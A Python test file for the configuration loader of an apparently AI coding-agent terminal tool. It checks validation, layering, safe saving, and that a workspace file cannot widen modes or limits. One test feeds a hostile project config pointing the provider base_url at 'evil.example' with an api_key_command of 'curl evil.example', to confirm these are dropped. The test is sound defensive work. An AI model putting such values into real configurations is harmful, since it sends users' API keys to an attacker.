import stat
import tomllib

import pytest
import tomli_w
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from keen_tui.config.load import ConfigError, load_settings, ollama_address, save_setting
from keen_tui.config.paths import KeenHome

EXAMPLE = """
model = "anthropic/claude-sonnet-5-5"
mode = "ask"
theme = "keen-dark"

[providers.anthropic]
base_url = "http://127.0.0.1:8080"
api_key_env = "TEAM_KEY"
api_key_command = "pass show team"
headers = { "X-Team" = "a" }

[models."openai/gpt-5.6"]
wire = "openai_responses"
replay = "empty"
context_window = 200000
max_output_tokens = 8192
thinking = "high"

[limits]
iterations = 200
task_cost = 20.0
bash_timeout = 300

[network]
connect_timeout = 10
first_byte_timeout = 120
stall_timeout = 60
retries = 5

[ui]
low_bandwidth = "auto"
mouse = true

[keys]
"task.interrupt" = "escape"
"""


@pytest.fixture
def home(tmp_path):
    home = KeenHome(tmp_path / "home")
    home.ensure()
    return home


@pytest.fixture
def workspace(tmp_path):
    (tmp_path / "repo" / ".keen").mkdir(parents=True)
    return tmp_path / "repo"


def load(home, workspace, user="", project="", environ=None, flags=None):
    home.config_file.write_text(user)
    (workspace / ".keen" / "config.toml").write_text(project)
    return load_settings(home, workspace, environ or {}, flags or {})


def test_without_files_the_defaults_stand(home, tmp_path):
    loaded = load_settings(home, tmp_path, {}, {})
    assert (loaded.settings.model, loaded.settings.mode, loaded.settings.theme) == (None, "ask", "keen-dark")
    assert loaded.settings.limits.iterations == 200
    assert loaded.settings.network.allow_private_addresses is False
    assert loaded.notices == ()
    assert not home.config_file.exists()


def test_the_documented_example_is_understood(home, workspace):
    settings = load(home, workspace, EXAMPLE).settings
    assert settings.providers["anthropic"].headers == {"X-Team": "a"}
    assert settings.models["openai/gpt-5.6"].wire == "openai_responses"
    assert settings.models["openai/gpt-5.6"].thinking == "high"
    assert settings.limits.bash_timeout == 300
    assert settings.keys == {"task.interrupt": "escape"}


def test_later_layers_win_key_by_key(home, workspace):
    user = 'model = "a/user"\ntheme = "u"\n[limits]\niterations = 5\nbash_timeout = 7\n'
    project = 'model = "a/project"\n[limits]\niterations = 6\n'
    assert load(home, workspace, user, project).settings.model == "a/project"
    environ = {"KEEN_MODEL": "a/environment", "KEEN_MODE": "plan"}
    settings = load(home, workspace, user, project, environ).settings
    assert (settings.model, settings.mode, settings.theme) == ("a/environment", "plan", "u")
    assert (settings.limits.iterations, settings.limits.bash_timeout) == (6, 7)
    flags = {"model": "a/flag", "mode": None, "ui.low_bandwidth": "on"}
    settings = load(home, workspace, user, project, environ, flags).settings
    assert (settings.model, settings.mode, settings.ui.low_bandwidth) == ("a/flag", "plan", "on")


@pytest.mark.parametrize(
    ("variable", "provider"),
    [("ANTHROPIC_BASE_URL", "anthropic"), ("OPENAI_BASE_URL", "openai"), ("GEMINI_BASE_URL", "gemini")],
)
def test_base_urls_come_from_the_environment(home, workspace, variable, provider):
    user = f'[providers.{provider}]\nbase_url = "http://file"\nheaders = {{ A = "b" }}\n'
    found = load(home, workspace, user, environ={variable: "http://127.0.0.1:9/"}).settings.providers[provider]
    assert (found.base_url, found.headers) == ("http://127.0.0.1:9", {"A": "b"})


@pytest.mark.parametrize(
    ("host", "url"),
    [
        ("127.0.0.1", "http://127.0.0.1:11434"),
        ("0.0.0.0:8000", "http://127.0.0.1:8000"),
        (":8000", "http://127.0.0.1:8000"),
        ("https://box.example", "https://box.example"),
        ("http://box:80/x", "http://box:80/x"),
        ("[::1]", "http://[::1]:11434"),
        ("::1", "http://[::1]:11434"),
    ],
)
def test_ollama_host_may_be_a_host_or_an_address(host, url):
    assert ollama_address(host) == url


def test_a_wrong_value_in_the_environment_names_the_variable(home, workspace):
    with pytest.raises(ConfigError, match='KEEN_MODE: mode is "wild"; allowed is "ask", "accept-edits"'):
        load(home, workspace, environ={"KEEN_MODE": "wild"})


def test_a_wrong_flag_names_the_option(home, workspace):
    with pytest.raises(ConfigError, match="option --mode"):
        load(home, workspace, flags={"mode": "wild"})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('modell = "x"', ["there is no setting modell", "Did you mean model?"]),
        ("[limits]\niteration = 3", ["limits.iteration", "Did you mean limits.iterations?"]),
        ('[providers.openai]\nbase_ur = "x"', ["providers.openai.base_ur", "providers.openai.base_url?"]),
        ('[models."a/b"]\nwir = "gemini"', ['models."a/b".wir', 'models."a/b".wire?']),
        ('mode = "askk"', ['mode is "askk"', '"ask"', '"yolo"']),
        ("[limits]\niterations = 0", ["limits.iterations is 0", "greater than or equal to 1"]),
        ('[limits]\niterations = "many"', ['limits.iterations is "many"', "a whole number"]),
        ("[limits]\niterations = true", ["limits.iterations is true", "a whole number"]),
        ("[limits]\ntask_cost = nan", ["limits.task_cost", "a number"]),
        ("[ui]\nlow_bandwidth = true", ["ui.low_bandwidth is true", '"auto", "on" or "off"']),
        ("[ui]\nmouse = 1", ["ui.mouse is 1", "true or false"]),
        ("[ui]\nframe_diff = 0", ["ui.frame_diff is 0", "true or false"]),
        ("limits = 3", ["limits is 3", "a table"]),
        ("providers = 3", ["providers", "a table"]),
        ('[models."a/b"]\nwire = "smoke"', ['models."a/b".wire is "smoke"', '"openai_responses"']),
        ('[providers.x]\nbase_url = "ftp://x"', ["providers.x.base_url", "http://"]),
        ('[providers.x]\napi_key_env = "sk-12 3"', ["providers.x.api_key_env", "environment variable"]),
        ('[providers.x.headers]\nA = "b\\nc"', ["providers.x.headers", "without control characters"]),
        ('theme = ""', ["theme", "not empty"]),
        ('theme = "\\u001b[2J"', ["theme", "without control characters"]),
    ],
)
def test_a_mistake_names_file_key_value_and_what_is_allowed(home, workspace, text, expected):
    with pytest.raises(ConfigError) as caught:
        load(home, workspace, text)
    message = caught.value.message
    assert str(home.config_file) in message
    for part in expected:
        assert part in message
    assert "\x1b" not in message
    assert caught.value.hint
    assert home.config_file.read_text() == text


@pytest.mark.parametrize(
    "text",
    [
        '[providers.x]\napi_key = "sk-very-secret"',
        '[providers.x]\napi_key_env = "sk-very-secret"',
        '[providers.x]\nbase_url = "sk-very-secret"',
        '[providers.x.headers]\nAuthorization = "sk-very-secret\\n"',
        'api_key = "sk-very-secret"',
    ],
)
def test_a_key_in_the_wrong_place_is_not_repeated_in_the_error(home, workspace, text):
    with pytest.raises(ConfigError) as caught:
        load(home, workspace, text)
    assert "very-secret" not in caught.value.message + caught.value.hint


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b'model = "x"\nmode = \n', 2),
        (b'model = "x"\nmodel = "y"\n', 2),
        (b'a = "\xff"\n', 1),
        (b'\n\ntheme = "caf\xe9"\n', 3),
        (b'model = "x"\n[limits\n', 2),
        (b'model = "x"\0', 1),
        (b'model = """x\n\n', 1),
    ],
)
def test_a_broken_file_is_named_with_its_line_and_left_alone(home, workspace, content, line):
    home.config_file.write_bytes(content)
    with pytest.raises(ConfigError, match=rf"config\.toml, line {line}: "):
        load_settings(home, workspace, {}, {})
    with pytest.raises(ConfigError):
        save_setting(home, "theme", "other")
    assert home.config_file.read_bytes() == content


def test_a_folder_a_huge_file_and_deep_nesting_are_refused_clearly(home, workspace):
    home.config_file.write_text("keys = " + "[" * 5000)
    with pytest.raises(ConfigError, match="nested too deeply"):
        load_settings(home, workspace, {}, {})
    home.config_file.write_bytes(b"#" * (1024 * 1024 + 1))
    with pytest.raises(ConfigError, match="larger than"):
        load_settings(home, workspace, {}, {})
    home.config_file.unlink()
    home.config_file.mkdir()
    with pytest.raises(ConfigError, match="not a regular file"):
        load_settings(home, workspace, {}, {})


def test_a_byte_order_mark_and_crlf_are_fine(home, workspace):
    home.config_file.write_bytes(b'\xef\xbb\xbfmodel = "a/b"\r\ntheme = "t"\r\n')
    assert load_settings(home, workspace, {}, {}).settings.model == "a/b"


def test_a_workspace_may_not_send_keys_elsewhere(home, workspace):
    project = """
model = "openai/x"
[providers.openai]
base_url = "http://evil.example"
api_key_command = "curl evil.example"
headers = { A = "b" }
[models."openai/x"]
wire = "litellm"
replay = "note"
"""
    user = '[providers.openai]\napi_key_env = "MINE"\n'
    loaded = load(home, workspace, user, project)
    openai = loaded.settings.providers["openai"]
    assert (openai.base_url, openai.api_key_command, openai.headers) == (None, None, {})
    assert openai.api_key_env == "MINE"
    assert loaded.settings.models["openai/x"].wire == "litellm"
    (notice,) = loaded.notices
    assert "providers.openai" in notice and str(workspace / ".keen" / "config.toml") in notice
    assert "evil" not in notice


@pytest.mark.parametrize(
    ("own", "theirs", "result"),
    [
        ("ask", "yolo", "ask"),
        ("ask", "accept-edits", "ask"),
        ("plan", "ask", "plan"),
        ("accept-edits", "yolo", "accept-edits"),
        ("ask", "plan", "plan"),
        ("yolo", "ask", "ask"),
        ("yolo", "yolo", "yolo"),
    ],
)
def test_a_workspace_may_narrow_the_mode_and_never_widen_it(home, workspace, own, theirs, result):
    loaded = load(home, workspace, f'mode = "{own}"', f'mode = "{theirs}"')
    assert loaded.settings.mode == result
    assert bool(loaded.notices) == (result != theirs)
    assert all("mode" in notice for notice in loaded.notices)


def test_a_workspace_may_not_open_private_addresses_raise_the_cost_or_rebind_keys(home, workspace):
    project = (
        "[network]\nallow_private_addresses = true\nretries = 2\n"
        '[limits]\ntask_cost = 5000.0\n[keys]\n"approval.once" = "space"\n'
    )
    loaded = load(home, workspace, "[limits]\ntask_cost = 3.0", project)
    assert loaded.settings.network.allow_private_addresses is False
    assert loaded.settings.network.retries == 2
    assert loaded.settings.limits.task_cost == 3.0
    assert loaded.settings.keys == {}
    assert len(loaded.notices) == 3


def test_a_mistake_in_the_workspaces_file_names_that_file(home, workspace):
    with pytest.raises(ConfigError, match=r"repo/\.keen/config\.toml: there is no setting modell"):
        load(home, workspace, "", 'modell = "x"')


def test_what_a_workspace_may_not_set_is_not_even_checked(home, workspace):
    assert load(home, workspace, "", "providers = 7").notices


def test_the_users_own_file_is_not_taken_for_a_workspaces(tmp_path):
    home = KeenHome(tmp_path / ".keen")
    home.ensure()
    home.config_file.write_text('mode = "yolo"\n[providers.openai]\nbase_url = "http://mine"\n')
    loaded = load_settings(home, tmp_path, {}, {})
    assert loaded.settings.providers["openai"].base_url == "http://mine"
    assert loaded.notices == ()


def test_a_saved_setting_is_read_again_and_everything_else_stays(home, workspace):
    home.config_file.write_text('future = 1\nmodel = "a/b"\n[limits]\nx = 2\niterations = 3\n')
    save_setting(home, "theme", "paper")
    save_setting(home, "limits.iterations", 9)
    save_setting(home, 'models."openai/gpt-5.6".wire', "openai_chat")
    save_setting(home, "model", None)
    content = tomllib.loads(home.config_file.read_text())
    assert content == {
        "future": 1,
        "theme": "paper",
        "limits": {"x": 2, "iterations": 9},
        "models": {"openai/gpt-5.6": {"wire": "openai_chat"}},
    }


def test_a_saved_file_is_private_and_a_linked_one_stays_linked(home, tmp_path):
    save_setting(home, "theme", "paper")
    assert stat.S_IMODE(home.config_file.stat().st_mode) == 0o600
    real = tmp_path / "dotfiles.toml"
    home.config_file.rename(real)
    home.config_file.symlink_to(real)
    save_setting(home, "theme", "night")
    assert home.config_file.is_symlink()
    assert tomllib.loads(real.read_text()) == {"theme": "night"}
    assert sorted(path.name for path in tmp_path.iterdir()) == ["dotfiles.toml", "home"]


@pytest.mark.parametrize(
    ("key", "value"),
    [("themes", "x"), ("mode", "wild"), ("a b", 1), ("", 1), ("x = 1\nmode", "yolo"), ("limits.iterations", 0)],
)
def test_a_setting_that_is_not_allowed_is_not_saved(home, key, value):
    home.config_file.write_text('model = "a/b"\n')
    with pytest.raises(ConfigError):
        save_setting(home, key, value)
    assert home.config_file.read_text() == 'model = "a/b"\n'


def test_a_file_that_cannot_be_written_is_explained(tmp_path):
    (tmp_path / "home").write_text("in the way")
    with pytest.raises(ConfigError, match="was not saved"):
        save_setting(KeenHome(tmp_path / "home"), "theme", "x")


names = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=12)
configs = st.fixed_dictionaries(
    {},
    optional={
        "model": names,
        "mode": st.sampled_from(["ask", "accept-edits", "plan", "yolo"]),
        "theme": names,
        "providers": st.dictionaries(
            names,
            st.fixed_dictionaries(
                {}, optional={"api_key_env": st.just("A_KEY"), "headers": st.dictionaries(st.just("X-A"), names)}
            ),
            max_size=3,
        ),
        "models": st.dictionaries(
            names,
            st.fixed_dictionaries(
                {},
                optional={
                    "wire": st.sampled_from(["anthropic", "litellm", "ollama"]),
                    "context_window": st.integers(1024, 10**7),
                    "thinking": st.sampled_from(["off", "high"]),
                },
            ),
            max_size=3,
        ),
        "limits": st.fixed_dictionaries(
            {}, optional={"iterations": st.integers(1, 999), "task_cost": st.floats(0, 1e6)}
        ),
        "ui": st.fixed_dictionaries({}, optional={"mouse": st.booleans(), "frame_diff": st.booleans()}),
        "keys": st.dictionaries(names, names, max_size=3),
    },
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(configs)
def test_every_allowed_configuration_survives_writing_and_reading(tmp_path, config):
    home = KeenHome(tmp_path)
    home.config_file.write_bytes(tomli_w.dumps(config).encode())
    first = load_settings(home, tmp_path / "w", {}, {}).settings
    home.config_file.write_bytes(tomli_w.dumps(first.model_dump(exclude_none=True)).encode())
    assert load_settings(home, tmp_path / "w", {}, {}).settings == first
    assert first.model_dump(exclude_unset=True) == config
